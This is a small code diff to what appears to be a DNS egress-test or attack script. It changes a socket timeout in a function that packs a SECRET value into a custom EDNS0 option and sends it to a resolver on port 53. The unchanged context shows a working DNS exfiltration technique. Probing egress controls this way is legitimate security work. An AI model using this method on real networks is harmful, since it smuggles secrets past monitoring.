@@ -7,7 +7,7 @@
 import socket
 import struct
 
-from attack import RESOLVER, SECRET, attempt
+from attack import RESOLVER, SECRET, attempt, patience
 
 
 def labels(*names):
@@ -24,7 +24,7 @@ def ask():
     option = struct.pack(">HH", 65001, len(secret)) + secret
     record = b"\0" + struct.pack(">HHIH", 41, 1232, 0, len(option)) + option
     out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    out.settimeout(3)
+    out.settimeout(patience(3))
     out.connect((RESOLVER, 53))
     out.send(question("api", "allowed", "example", records=1) + record)
     return len(out.recv(512)) > 12
